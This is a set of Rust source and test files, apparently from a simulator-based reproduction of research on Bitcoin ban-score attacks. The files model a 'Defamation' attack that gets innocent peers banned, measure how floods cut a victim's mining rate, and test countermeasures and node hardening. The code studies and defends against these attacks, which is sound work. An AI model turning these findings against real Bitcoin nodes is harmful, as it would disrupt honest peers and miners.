    };
    let node = tb.target_node();
    let innocent_addr = btc_netsim::packet::SockAddr::new(innocent_ip, 8333);
    CounterOutcome {
        policy: name,
        innocent_banned: node
            .banman
            .history()
            .iter()
            .any(|(_, a)| a.ip == innocent_ip),
        innocent_connected: node.peer_by_addr(&innocent_addr).is_some(),
        innocent_score: node.ban_score(&innocent_addr),
        strikes_delivered: strikes,
    }
}

/// Runs the Defamation attack under every §VIII policy.
pub fn evaluate_countermeasures() -> Vec<CounterOutcome> {
    vec![
        run_defamation_under(BanPolicy::Standard, false, "standard (0.20.0)"),
        run_defamation_under(BanPolicy::NeverBan, false, "threshold → ∞"),
        run_defamation_under(BanPolicy::Disabled, false, "checking disabled"),
        run_defamation_under(BanPolicy::Standard, true, "good-score"),
    ]
}

/// Renders the countermeasure table.
pub fn render_countermeasures(rows: &[CounterOutcome]) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    writeln!(
        out,
        "{:<20} {:>16} {:>12} {:>8} {:>10}",
        "Policy", "Innocent banned", "Connected", "Score", "Strikes"
    )
    .unwrap();
    for r in rows {
        writeln!(
            out,
            "{:<20} {:>16} {:>12} {:>8} {:>10}",
            r.policy,
            r.innocent_banned,
            r.innocent_connected,
            r.innocent_score,
            r.strikes_delivered
        )
        .unwrap();
    }
    out
}

/// §VIII's authentication cost estimate for encrypting every connection
/// (BIP324-style).
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct AuthOverhead {
    /// Node count (the paper cites >60 000).
    pub nodes: u64,
    /// Connections per node (the paper cites 34, after Decker &
    /// Wattenhofer).
    pub connections_per_node: u64,
    /// Distinct connections network-wide (each shared by two nodes).
    pub total_connections: u64,
    /// Asymmetric handshakes to key them all once.
    pub handshakes: u64,
    /// CPU-seconds for those handshakes (X25519 ≈ 50 µs/side ×2).
    pub handshake_cpu_seconds: f64,
    /// Added bytes per message (MAC tag + rekey overhead amortized).
    pub per_message_overhead_bytes: u64,
}

/// Computes the §VIII estimate.
pub fn auth_overhead(nodes: u64, connections_per_node: u64) -> AuthOverhead {
    let total_connections = nodes * connections_per_node / 2;
    let handshakes = total_connections;
    AuthOverhead {
        nodes,
        connections_per_node,
        total_connections,
        handshakes,
        handshake_cpu_seconds: handshakes as f64 * 2.0 * 50e-6,
        per_message_overhead_bytes: 16,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn standard_policy_bans_the_innocent() {
        let r = run_defamation_under(BanPolicy::Standard, false, "standard");
        assert!(r.strikes_delivered);
        assert!(r.innocent_banned, "{r:?}");
        assert!(!r.innocent_connected);
    }

    #[test]
    fn infinite_threshold_keeps_score_but_never_bans() {
        let r = run_defamation_under(BanPolicy::NeverBan, false, "neverban");
        assert!(r.strikes_delivered);
        assert!(!r.innocent_banned);
        assert!(r.innocent_connected, "{r:?}");
        // Misbehavior tracking still works (usable for peer-health ranking).
        assert!(r.innocent_score >= 100, "score {}", r.innocent_score);
    }

    #[test]
    fn disabled_checking_tracks_nothing() {
        let r = run_defamation_under(BanPolicy::Disabled, false, "disabled");
        assert!(!r.innocent_banned);
        assert!(r.innocent_connected);
        assert_eq!(r.innocent_score, 0);
    }

    #[test]
    fn good_score_shields_peers_with_history() {
        let r = run_defamation_under(BanPolicy::Standard, true, "goodscore");
        assert!(r.strikes_delivered);
        assert!(!r.innocent_banned, "{r:?}");
        assert!(r.innocent_connected);
    }

    #[test]
    fn all_four_policies_evaluated() {
        let rows = evaluate_countermeasures();
        assert_eq!(rows.len(), 4);
        // Only the stock policy lets Defamation succeed.
        assert!(rows[0].innocent_banned);
        assert!(rows[1..].iter().all(|r| !r.innocent_banned));
    }

    #[test]
    fn auth_overhead_matches_paper_arithmetic() {
        // The paper: 60 000 nodes × 34 connections → 1 020 000 connections
        // needing encryption.
        let a = auth_overhead(60_000, 34);
        assert_eq!(a.total_connections, 1_020_000);
        assert!(a.handshake_cpu_seconds > 0.0);
    }

    #[test]
    fn render_lists_all_policies() {
        let rows = evaluate_countermeasures();
        let t = render_countermeasures(&rows);
        assert!(t.contains("good-score"));
        assert!(t.contains("threshold"));
    }
}
