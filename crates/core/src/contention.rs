//! The CPU-contention model relating flood traffic to the victim's mining
//! rate (Figures 6/7, Table III).
//!
//! On the paper's testbed (single-vCPU VirtualBox guests — the "Intel
//! PRO/1000 MT Desktop" adapter gives the virtualization away), each
//! delivered message costs the `bitcoind` process far more than its
//! microscopic handler time: socket wake-ups, lock acquisition, scheduler
//! churn. We model the effective mining-rate loss with a saturating
//! contention curve
//!
//! ```text
//! steal(L) = S_MAX · L / (1 + L),      L = interference_cycles_per_sec / C_HALF
//! mining   = R0 · (1 − steal)
//! ```
//!
//! with per-message interference `wakeup + per_byte × payload`. The four
//! constants are calibrated once against the paper's two single-connection
//! operating points (bogus-`BLOCK` → 3.5·10⁵ h/s, `PING` → 5.5·10⁵ h/s)
//! and held fixed for every other prediction; Sybil scaling, the bandwidth
//! cap and the ICMP comparison all then *emerge* from measured simulator
//! traffic. EXPERIMENTS.md tabulates predicted vs. paper values.


/// Idle mining rate of the victim (hashes/second) — the paper's 9.5·10⁵.
pub const BASELINE_HASH_RATE: f64 = 950_000.0;

/// Maximum fraction of the mining rate a flood can steal (the miner thread
/// keeps a minimum share under fair scheduling).
pub const S_MAX: f64 = 0.75;

/// Interference cycles/second at which half of `S_MAX` is reached.
pub const C_HALF: f64 = 1.25e9;

/// Fixed interference cycles per delivered message (wake-up + locks).
pub const WAKEUP_CYCLES: f64 = 1.6e6;

/// Interference cycles per payload byte (checksum + copy at the victim).
pub const PER_BYTE_CYCLES: f64 = 25.0;

/// Interference cycles per *network-layer* packet (ICMP: kernel only, no
/// process wake-up).
pub const ICMP_CYCLES: f64 = 7.5e3;

/// The contention model.
#[derive(Clone, Copy, Debug)]
pub struct ContentionModel {
    /// Idle hash rate `R0`.
    pub baseline_hash_rate: f64,
    /// Curve ceiling.
    pub s_max: f64,
    /// Half-saturation point (cycles/s).
    pub c_half: f64,
    /// Per-message fixed cycles.
    pub wakeup: f64,
    /// Per-byte cycles.
    pub per_byte: f64,
    /// Per-ICMP-packet cycles.
    pub icmp: f64,
}

impl Default for ContentionModel {
    fn default() -> Self {
        ContentionModel {
            baseline_hash_rate: BASELINE_HASH_RATE,
            s_max: S_MAX,
            c_half: C_HALF,
            wakeup: WAKEUP_CYCLES,
            per_byte: PER_BYTE_CYCLES,
            icmp: ICMP_CYCLES,
        }
    }
}

impl ContentionModel {
    /// Interference load of an application-layer flood measured as
    /// `messages` totalling `bytes` of payload over `secs` seconds.
    pub fn app_layer_load(&self, messages: u64, bytes: u64, secs: f64) -> f64 {
        if secs <= 0.0 {
            return 0.0;
        }
        (messages as f64 * self.wakeup + bytes as f64 * self.per_byte) / secs / self.c_half
    }

    /// Interference load of a network-layer (ICMP) flood.
    pub fn network_layer_load(&self, packets: u64, secs: f64) -> f64 {
        if secs <= 0.0 {
            return 0.0;
        }
        packets as f64 * self.icmp / secs / self.c_half
    }

    /// The stolen mining fraction for load `l`.
    pub fn steal(&self, l: f64) -> f64 {
        self.s_max * l / (1.0 + l)
    }

    /// Mining rate under load `l` (hashes/second).
    pub fn mining_rate(&self, l: f64) -> f64 {
        self.baseline_hash_rate * (1.0 - self.steal(l))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn idle_node_mines_at_baseline() {
        let m = ContentionModel::default();
        assert_eq!(m.mining_rate(0.0), BASELINE_HASH_RATE);
    }

    #[test]
    fn calibration_point_bogus_block_single_connection() {
        // 1 connection, 200 kB bogus blocks at the 1000 msg/s socket cap.
        let m = ContentionModel::default();
        let l = m.app_layer_load(1000, 1000 * 200_000, 1.0);
        let rate = m.mining_rate(l);
        // Paper: 3.5e5 h/s.
        assert!((3.2e5..3.9e5).contains(&rate), "rate {rate}");
    }

    #[test]
    fn calibration_point_ping_single_connection() {
        let m = ContentionModel::default();
        // 1000 ping/s, ~8-byte payloads.
        let l = m.app_layer_load(1000, 8000, 1.0);
        let rate = m.mining_rate(l);
        // Paper: 5.5e5 h/s.
        assert!((5.2e5..5.9e5).contains(&rate), "rate {rate}");
    }

    #[test]
    fn icmp_megaflood_matches_paper() {
        let m = ContentionModel::default();
        // 10⁶ packets/s network-layer flood.
        let l = m.network_layer_load(1_000_000, 1.0);
        let rate = m.mining_rate(l);
        // Paper Table III: 3.59e5 h/s at 10⁶ pps.
        assert!((3.1e5..4.1e5).contains(&rate), "rate {rate}");
    }

    #[test]
    fn bm_dos_beats_icmp_at_equal_rate() {
        // Figure 7's claim: at the same packet rate, the application-layer
        // flood hurts mining far more than the network-layer flood.
        let m = ContentionModel::default();
        for rate in [100u64, 1000] {
            let app = m.mining_rate(m.app_layer_load(rate, rate * 8, 1.0));
            let net = m.mining_rate(m.network_layer_load(rate, 1.0));
            assert!(app < net, "rate {rate}: app {app} net {net}");
        }
    }

    #[test]
    fn steal_never_exceeds_smax() {
        let m = ContentionModel::default();
        assert!(m.steal(1e12) <= S_MAX + 1e-12);
        assert!(m.mining_rate(1e12) >= BASELINE_HASH_RATE * (1.0 - S_MAX) - 1.0);
    }

    #[test]
    fn monotone_in_load() {
        let m = ContentionModel::default();
        let mut prev = m.mining_rate(0.0);
        for i in 1..100 {
            let r = m.mining_rate(i as f64 * 0.5);
            assert!(r < prev);
            prev = r;
        }
    }

    #[test]
    fn zero_duration_is_safe() {
        let m = ContentionModel::default();
        assert_eq!(m.app_layer_load(100, 100, 0.0), 0.0);
        assert_eq!(m.network_layer_load(100, 0.0), 0.0);
    }
}
