//! End-to-end check of the parallel-sweep determinism contract: fanning a
//! scenario's points across worker threads must not change a single byte
//! of its output. Every point is an independent, freshly-seeded simulator,
//! so `--jobs N` is a pure scheduling decision.
//!
//! The container running CI may have a single core; that is fine — the
//! pool still exercises the stealing path by time-slicing its workers.

use banscore::scenario::fault_matrix::{
    render_fault_matrix, run_fault_matrix_jobs, FaultMatrixConfig, FaultPoint,
};
use banscore::scenario::fig6::{render_fig6, run_fig6_jobs};
use banscore::scenario::table3::{render_table3, run_table3_jobs};
use btc_netsim::time::{MILLIS, MINUTES};

#[test]
fn fig6_identical_at_jobs_1_and_4() {
    let serial = run_fig6_jobs(1, 1);
    let parallel = run_fig6_jobs(1, 4);
    assert_eq!(serial.len(), parallel.len());
    // Exact float equality is intentional: same seeds, same arithmetic,
    // same order — parallelism must not perturb anything.
    for (s, p) in serial.iter().zip(&parallel) {
        assert_eq!(s.attack, p.attack);
        assert_eq!(s.connections, p.connections);
        assert_eq!(s.msgs_per_sec.to_bits(), p.msgs_per_sec.to_bits());
        assert_eq!(s.mbits_per_sec.to_bits(), p.mbits_per_sec.to_bits());
        assert_eq!(s.mining_rate.to_bits(), p.mining_rate.to_bits());
    }
    assert_eq!(render_fig6(&serial), render_fig6(&parallel));
}

#[test]
fn table3_render_identical_at_jobs_1_and_3() {
    let serial = run_table3_jobs(1, 1);
    let parallel = run_table3_jobs(1, 3);
    assert_eq!(render_table3(&serial), render_table3(&parallel));
}

#[test]
fn fault_matrix_identical_at_jobs_1_and_4() {
    // The fault-injection determinism contract, end to end: one actively
    // faulty grid point (loss + jitter + churn, a fixed seed per case)
    // must reduce to bit-identical detector features, fault counters and
    // rendered output no matter how the runs are scheduled.
    let cfg = FaultMatrixConfig {
        train: 8 * MINUTES,
        window: MINUTES,
        test: 2 * MINUTES,
        innocents: 6,
        grid: vec![FaultPoint {
            loss: 0.1,
            jitter: 2 * MILLIS,
            churn_fpm: 5,
        }],
    };
    let serial = run_fault_matrix_jobs(&cfg, 1);
    let parallel = run_fault_matrix_jobs(&cfg, 4);
    for (s, p) in serial.points.iter().zip(&parallel.points) {
        assert_eq!(s.point, p.point);
        for (sc, pc) in s.cases.iter().zip(&p.cases) {
            assert_eq!(sc.name, pc.name);
            assert_eq!(sc.fault_stats, pc.fault_stats, "case {}", sc.name);
            assert_eq!(sc.retransmits, pc.retransmits, "case {}", sc.name);
            // Exact float equality on purpose: same seeds, same
            // arithmetic, same order.
            assert_eq!(sc.detection.n.to_bits(), pc.detection.n.to_bits());
            assert_eq!(sc.detection.c.to_bits(), pc.detection.c.to_bits());
            assert_eq!(sc.rho.to_bits(), pc.rho.to_bits());
            assert_eq!(sc.latency_s.to_bits(), pc.latency_s.to_bits());
        }
    }
    assert_eq!(
        render_fault_matrix(&serial),
        render_fault_matrix(&parallel)
    );
}
