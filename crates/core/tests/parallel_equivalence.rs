//! End-to-end check of the parallel-sweep determinism contract: fanning a
//! scenario's points across worker threads must not change a single byte
//! of its output. Every point is an independent, freshly-seeded simulator,
//! so `--jobs N` is a pure scheduling decision.
//!
//! The container running CI may have a single core; that is fine — the
//! pool still exercises the stealing path by time-slicing its workers.

use banscore::scenario::fig6::{render_fig6, run_fig6_jobs};
use banscore::scenario::table3::{render_table3, run_table3_jobs};

#[test]
fn fig6_identical_at_jobs_1_and_4() {
    let serial = run_fig6_jobs(1, 1);
    let parallel = run_fig6_jobs(1, 4);
    assert_eq!(serial.len(), parallel.len());
    // Exact float equality is intentional: same seeds, same arithmetic,
    // same order — parallelism must not perturb anything.
    for (s, p) in serial.iter().zip(&parallel) {
        assert_eq!(s.attack, p.attack);
        assert_eq!(s.connections, p.connections);
        assert_eq!(s.msgs_per_sec.to_bits(), p.msgs_per_sec.to_bits());
        assert_eq!(s.mbits_per_sec.to_bits(), p.mbits_per_sec.to_bits());
        assert_eq!(s.mining_rate.to_bits(), p.mining_rate.to_bits());
    }
    assert_eq!(render_fig6(&serial), render_fig6(&parallel));
}

#[test]
fn table3_render_identical_at_jobs_1_and_3() {
    let serial = run_table3_jobs(1, 1);
    let parallel = run_table3_jobs(1, 3);
    assert_eq!(render_table3(&serial), render_table3(&parallel));
}
