//! Node resilience hardening: handshake-timeout eviction, ping-timeout
//! eviction, capped exponential reconnection backoff, and the full-width
//! version nonce. Every knob defaults to off, so the first test in each
//! pair shows the stock behaviour is unchanged.

use btc_netsim::packet::SockAddr;
use btc_netsim::sim::{App, Ctx, HostConfig, SimConfig, Simulator};
use btc_netsim::tcp::ConnId;
use btc_netsim::time::SECS;
use btc_node::node::{Node, NodeConfig};
use btc_wire::drain::FrameAssembler;
use btc_wire::message::{Message, RawMessage, VersionMessage};
use btc_wire::types::{NetAddr, Network};
use std::any::Any;

const A: [u8; 4] = [10, 0, 0, 1];
const B: [u8; 4] = [10, 0, 0, 2];

fn addr(ip: [u8; 4]) -> SockAddr {
    SockAddr::new(ip, 8333)
}

/// Dials the target and then never says a word — the handshake stalls
/// forever from the node's point of view.
struct MuteDialer {
    target: SockAddr,
}

impl App for MuteDialer {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.connect(self.target);
    }
    fn as_any(&self) -> &dyn Any {
        self
    }
    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

/// Completes the version handshake, then ignores everything — including
/// keepalive pings.
struct DeafDialer {
    target: SockAddr,
    frames: FrameAssembler,
}

impl DeafDialer {
    fn new(target: SockAddr) -> Self {
        DeafDialer {
            target,
            frames: FrameAssembler::new(Network::Regtest),
        }
    }

    fn send(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, msg: &Message) {
        let raw = RawMessage::frame(Network::Regtest, msg);
        ctx.send(conn, &raw.to_bytes());
    }
}

impl App for DeafDialer {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.connect(self.target);
    }
    fn on_connected(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, _peer: SockAddr, _inb: bool) {
        let v = VersionMessage::new(
            NetAddr::new(B, 8333),
            NetAddr::new(self.target.ip, self.target.port),
            7,
        );
        self.send(ctx, conn, &Message::Version(v));
    }
    fn on_data(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, _peer: SockAddr, data: &[u8]) {
        self.frames.push(data);
        while let Some(raw) = self.frames.next_frame() {
            if raw.header.command_str() == Ok("version") {
                self.send(ctx, conn, &Message::Verack);
            }
            // Pings (and everything else) are ignored on purpose.
        }
    }
    fn as_any(&self) -> &dyn Any {
        self
    }
    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

fn run_with_mute_dialer(handshake_timeout: u64) -> usize {
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(
        A,
        Box::new(Node::new(NodeConfig {
            handshake_timeout,
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    sim.add_host(
        B,
        Box::new(MuteDialer { target: addr(A) }),
        HostConfig::default(),
    );
    sim.run_for(8 * SECS);
    let a: &Node = sim.app(A).unwrap();
    a.inbound_count()
}

#[test]
fn handshake_timeout_evicts_mute_peer() {
    // Default (0): the half-dead connection is kept forever.
    assert_eq!(run_with_mute_dialer(0), 1);
    // With a 3 s budget the maintenance tick clears it out.
    assert_eq!(run_with_mute_dialer(3 * SECS), 0);
}

fn run_with_deaf_dialer(ping_timeout: u64) -> usize {
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(
        A,
        Box::new(Node::new(NodeConfig {
            ping_interval: 2 * SECS,
            ping_timeout,
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    sim.add_host(
        B,
        Box::new(DeafDialer::new(addr(A))),
        HostConfig::default(),
    );
    sim.run_for(10 * SECS);
    let a: &Node = sim.app(A).unwrap();
    a.inbound_count()
}

#[test]
fn ping_timeout_evicts_deaf_peer() {
    // Default: never answering a ping is tolerated indefinitely.
    assert_eq!(run_with_deaf_dialer(0), 1);
    // With a 3 s ping budget (pings every 2 s) the peer is gone by 10 s.
    assert_eq!(run_with_deaf_dialer(3 * SECS), 0);
}

#[test]
fn pong_clears_the_ping_deadline() {
    // Two real nodes answer each other's pings, so even an aggressive
    // ping timeout never fires.
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(
        A,
        Box::new(Node::new(NodeConfig {
            ping_interval: SECS,
            ping_timeout: 2 * SECS,
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    sim.add_host(
        B,
        Box::new(Node::new(NodeConfig {
            outbound_targets: vec![addr(A)],
            ping_interval: SECS,
            ping_timeout: 2 * SECS,
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    sim.run_for(12 * SECS);
    let a: &Node = sim.app(A).unwrap();
    let b: &Node = sim.app(B).unwrap();
    assert_eq!(a.inbound_count(), 1);
    assert_eq!(b.outbound_count(), 1);
}

fn failed_dials(base: u64, cap: u64) -> u32 {
    // B dials a port nobody listens on; every attempt is refused with an
    // RST, so the dial cadence is fully visible in addrman's failure
    // counter.
    let closed = SockAddr::new(A, 9000);
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(
        A,
        Box::new(Node::new(NodeConfig::default())),
        HostConfig::default(),
    );
    sim.add_host(
        B,
        Box::new(Node::new(NodeConfig {
            outbound_targets: vec![closed],
            reconnect_backoff_base: base,
            reconnect_backoff_cap: cap,
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    sim.run_for(12 * SECS);
    let b: &Node = sim.app(B).unwrap();
    b.addrman.entry(&closed).map_or(0, |e| e.failures)
}

#[test]
fn reconnect_backoff_slows_redials() {
    // Stock behaviour: one refused dial per maintenance tick (~12 in 12 s).
    let eager = failed_dials(0, 0);
    assert!(eager >= 8, "expected roughly one dial per second, got {eager}");
    // With 2 s base doubling to a 16 s cap the schedule is ~0,2,6,14 s —
    // at most a handful of attempts in the same window.
    let patient = failed_dials(2 * SECS, 16 * SECS);
    assert!(
        patient >= 2 && patient <= eager / 2,
        "backoff did not thin redials: {patient} vs {eager}"
    );
}

#[test]
fn version_nonce_uses_full_rng_width() {
    // The old nonce mixed a counter into the low 16 bits, so the first
    // handshake of every node always ended in 0x0001. Drawn fully from
    // the RNG, the low bits now vary with the seed.
    let low_bits = |seed: u64| -> u16 {
        let mut sim = Simulator::new(SimConfig {
            seed,
            ..SimConfig::default()
        });
        sim.add_host(
            A,
            Box::new(Node::new(NodeConfig::default())),
            HostConfig::default(),
        );
        sim.add_host(
            B,
            Box::new(Node::new(NodeConfig {
                outbound_targets: vec![addr(A)],
                ..NodeConfig::default()
            })),
            HostConfig::default(),
        );
        sim.run_for(2 * SECS);
        let a: &Node = sim.app(A).unwrap();
        let peer = a
            .peer_infos()
            .first()
            .map(|p| p.addr)
            .expect("B never connected");
        let nonce = a
            .peer_by_addr(&peer)
            .and_then(|p| p.version.as_ref())
            .map(|v| v.nonce)
            .expect("no VERSION from B");
        (nonce & 0xFFFF) as u16
    };
    let lows: Vec<u16> = (1..=5).map(low_bits).collect();
    assert!(
        lows.iter().any(|l| *l != lows[0]),
        "low 16 nonce bits identical across seeds: {lows:?}"
    );
}
