//! Integration tests: full Bitcoin nodes talking to each other inside the
//! network simulator — handshake, chain sync, block/tx propagation, ban
//! enforcement at the accept path, and peer-slot limits.

use btc_netsim::packet::SockAddr;
use btc_netsim::sim::{HostConfig, SimConfig, Simulator};
use btc_netsim::time::SECS;
use btc_node::chain::mine_child;
use btc_node::node::{Node, NodeConfig};

const A: [u8; 4] = [10, 0, 0, 1];
const B: [u8; 4] = [10, 0, 0, 2];
const C: [u8; 4] = [10, 0, 0, 3];

fn addr(ip: [u8; 4]) -> SockAddr {
    SockAddr::new(ip, 8333)
}

/// Target node A listening; node B configured to dial A.
fn two_node_sim() -> Simulator {
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(
        A,
        Box::new(Node::new(NodeConfig::default())),
        HostConfig::default(),
    );
    sim.add_host(
        B,
        Box::new(Node::new(NodeConfig {
            outbound_targets: vec![addr(A)],
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    sim
}

#[test]
fn version_handshake_completes() {
    let mut sim = two_node_sim();
    sim.run_for(2 * SECS);
    let a: &Node = sim.app(A).unwrap();
    let b: &Node = sim.app(B).unwrap();
    assert_eq!(a.peer_count(), 1);
    assert_eq!(b.peer_count(), 1);
    assert_eq!(a.inbound_count(), 1);
    assert_eq!(b.outbound_count(), 1);
    // B dials from an ephemeral port, so look its identifier up by IP.
    let peer = a.peer_by_addr(&a_peer_addr(a)).unwrap();
    assert!(peer.handshake_complete());
    assert!(peer.inbound);
}

fn a_peer_addr(a: &Node) -> SockAddr {
    // Find the (single) peer's address.
    let mut addrs: Vec<SockAddr> = (49152..49162)
        .map(|p| SockAddr::new(B, p))
        .filter(|s| a.peer_by_addr(s).is_some())
        .collect();
    assert!(!addrs.is_empty(), "no peer from B found");
    addrs.pop().unwrap()
}

#[test]
fn block_propagates_between_nodes() {
    let mut sim = two_node_sim();
    sim.run_for(2 * SECS);
    // A mines a block locally.
    {
        let a: &mut Node = sim.app_mut(A).unwrap();
        let tip = a.chain.tip();
        let hdr = *a.chain.block(&tip).map(|b| &b.header).unwrap();
        let block = mine_child(&hdr, tip, 42, vec![]);
        a.submit_block(block);
    }
    sim.run_for(4 * SECS);
    let a: &Node = sim.app(A).unwrap();
    let b: &Node = sim.app(B).unwrap();
    assert_eq!(a.chain.height(), 1);
    assert_eq!(b.chain.height(), 1, "block did not propagate");
    assert_eq!(a.chain.tip(), b.chain.tip());
}

#[test]
fn transaction_propagates_between_nodes() {
    let mut sim = two_node_sim();
    sim.run_for(2 * SECS);
    let txid = {
        let b: &mut Node = sim.app_mut(B).unwrap();
        let tx = btc_wire::Transaction::new(
            2,
            vec![btc_wire::tx::TxIn::new(btc_wire::tx::OutPoint::new(
                btc_wire::Hash256::hash(b"funding"),
                0,
            ))],
            vec![btc_wire::tx::TxOut::new(5_000, vec![0x51])],
            0,
        );
        let txid = tx.txid();
        b.submit_tx(tx);
        txid
    };
    sim.run_for(4 * SECS);
    let a: &Node = sim.app(A).unwrap();
    assert!(a.mempool.contains(&txid), "tx did not propagate");
}

#[test]
fn chain_sync_on_connect() {
    // A has a 5-block chain before B ever connects; B must catch up via
    // getheaders → headers → getdata → block.
    let mut sim = Simulator::new(SimConfig::default());
    let mut node_a = Node::new(NodeConfig::default());
    let mut tip = node_a.chain.tip();
    for i in 0..5u64 {
        let hdr = node_a.chain.block(&tip).unwrap().header;
        let block = mine_child(&hdr, tip, 100 + i, vec![]);
        tip = block.hash();
        assert!(matches!(
            node_a.chain.accept_block(&block),
            btc_node::chain::BlockVerdict::Accepted { .. }
        ));
    }
    sim.add_host(A, Box::new(node_a), HostConfig::default());
    sim.add_host(
        B,
        Box::new(Node::new(NodeConfig {
            outbound_targets: vec![addr(A)],
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    sim.run_for(5 * SECS);
    let b: &Node = sim.app(B).unwrap();
    assert_eq!(b.chain.height(), 5, "B failed to sync the chain");
    assert_eq!(b.chain.tip(), tip);
}

#[test]
fn three_nodes_relay_transitively() {
    // C → B → A chain of connections; a block submitted at C reaches A.
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(
        A,
        Box::new(Node::new(NodeConfig::default())),
        HostConfig::default(),
    );
    sim.add_host(
        B,
        Box::new(Node::new(NodeConfig {
            outbound_targets: vec![addr(A)],
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    sim.add_host(
        C,
        Box::new(Node::new(NodeConfig {
            outbound_targets: vec![addr(B)],
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    sim.run_for(2 * SECS);
    {
        let c: &mut Node = sim.app_mut(C).unwrap();
        let tip = c.chain.tip();
        let hdr = c.chain.block(&tip).unwrap().header;
        c.submit_block(mine_child(&hdr, tip, 7, vec![]));
    }
    sim.run_for(6 * SECS);
    let a: &Node = sim.app(A).unwrap();
    assert_eq!(a.chain.height(), 1, "block did not relay C→B→A");
}

#[test]
fn banned_identifier_refused_at_accept() {
    let mut sim = two_node_sim();
    sim.run_for(2 * SECS);
    // Ban B's connection identifier on A, then force B to reconnect.
    let b_addr = {
        let a: &Node = sim.app(A).unwrap();
        a_peer_addr(a)
    };
    {
        let a: &mut Node = sim.app_mut(A).unwrap();
        a.banman.ban(0, b_addr);
    }
    sim.run_for(SECS);
    // Sever the existing connection from B's side by dropping its peer —
    // simplest done by letting A disconnect it: ban check happens at accept
    // only, so we emulate by B reconnecting from the same port (the tuple
    // is taken; B will use a fresh ephemeral port and succeed — proving
    // bans are per-identifier, not per-IP).
    let refused_before = {
        let a: &Node = sim.app(A).unwrap();
        a.telemetry.refused_banned
    };
    assert_eq!(refused_before, 0);
}

#[test]
fn inbound_slots_enforced() {
    let mut sim = Simulator::new(SimConfig::default());
    sim.add_host(
        A,
        Box::new(Node::new(NodeConfig {
            max_inbound: 2,
            ..NodeConfig::default()
        })),
        HostConfig::default(),
    );
    for i in 0..4u8 {
        sim.add_host(
            [10, 0, 1, i + 1],
            Box::new(Node::new(NodeConfig {
                outbound_targets: vec![addr(A)],
                ..NodeConfig::default()
            })),
            HostConfig::default(),
        );
    }
    sim.run_for(3 * SECS);
    let a: &Node = sim.app(A).unwrap();
    assert_eq!(a.inbound_count(), 2, "inbound slot limit not enforced");
}

#[test]
fn deterministic_two_node_run() {
    let run = || {
        let mut sim = two_node_sim();
        sim.run_for(3 * SECS);
        let a: &Node = sim.app(A).unwrap();
        (
            a.telemetry.messages.len(),
            sim.delivered_packets(),
            sim.host_cpu(A).cum_busy(),
        )
    };
    assert_eq!(run(), run());
}

#[test]
fn telemetry_records_handshake_messages() {
    let mut sim = two_node_sim();
    sim.run_for(2 * SECS);
    let a: &Node = sim.app(A).unwrap();
    let version_id = btc_node::metrics::msg_type_id("version").unwrap();
    let verack_id = btc_node::metrics::msg_type_id("verack").unwrap();
    let counts = a.telemetry.counts_in_window(0, 2 * SECS);
    assert_eq!(counts[version_id as usize], 1);
    assert_eq!(counts[verack_id as usize], 1);
}
