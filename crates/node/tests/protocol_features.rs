//! Integration tests for the deeper protocol features: BIP152 compact
//! announcements, BIP37 filtered blocks, keepalive pings, and the address
//! manager's role in outbound selection.

use btc_netsim::packet::SockAddr;
use btc_netsim::sim::{App, Ctx, HostConfig, SimConfig, Simulator};
use btc_netsim::tcp::ConnId;
use btc_netsim::time::{MINUTES, SECS};
use btc_node::chain::mine_child;
use btc_node::node::{Node, NodeConfig};
use btc_wire::bloom::{BloomFilter, BloomFlags};
use btc_wire::drain::FrameAssembler;
use btc_wire::message::{decode_frame, Message, RawMessage, VersionMessage};
use btc_wire::types::{InvType, Inventory, NetAddr, Network};
use std::any::Any;

const A: [u8; 4] = [10, 0, 0, 1];
const B: [u8; 4] = [10, 0, 0, 2];
const C: [u8; 4] = [10, 0, 0, 3];

fn addr(ip: [u8; 4]) -> SockAddr {
    SockAddr::new(ip, 8333)
}

/// A scriptable light client: performs the handshake, then sends a fixed
/// sequence of messages and records everything it receives.
struct Probe {
    target: SockAddr,
    script: Vec<Message>,
    received: Vec<Message>,
    conn: Option<ConnId>,
    frames: FrameAssembler,
    handshaked: bool,
}

impl Probe {
    fn new(target: SockAddr, script: Vec<Message>) -> Self {
        Probe {
            target,
            script,
            received: Vec::new(),
            conn: None,
            frames: FrameAssembler::new(Network::Regtest),
            handshaked: false,
        }
    }

    fn send(&self, ctx: &mut Ctx<'_>, msg: &Message) {
        if let Some(conn) = self.conn {
            let bytes = RawMessage::frame(Network::Regtest, msg).to_bytes();
            ctx.send(conn, &bytes);
        }
    }
}

impl App for Probe {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.conn = Some(ctx.connect(self.target));
    }

    fn on_connected(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, peer: SockAddr, _inb: bool) {
        self.conn = Some(conn);
        let local = ctx.local_of(conn).unwrap_or_default();
        let v = VersionMessage::new(
            NetAddr::new(local.ip, local.port),
            NetAddr::new(peer.ip, peer.port),
            7,
        );
        let bytes = RawMessage::frame(Network::Regtest, &Message::Version(v)).to_bytes();
        ctx.send(conn, &bytes);
    }

